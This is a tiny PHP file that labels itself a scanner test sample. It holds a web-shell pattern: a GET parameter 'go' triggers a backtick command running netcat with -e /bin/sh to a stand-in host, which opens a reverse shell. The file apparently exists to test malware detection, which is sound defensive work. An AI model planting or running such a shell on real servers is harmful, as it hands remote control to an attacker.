<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
if (isset($_GET['go'])) {
    `nc 192.0.2.7 8080 -e /bin/sh`;
}
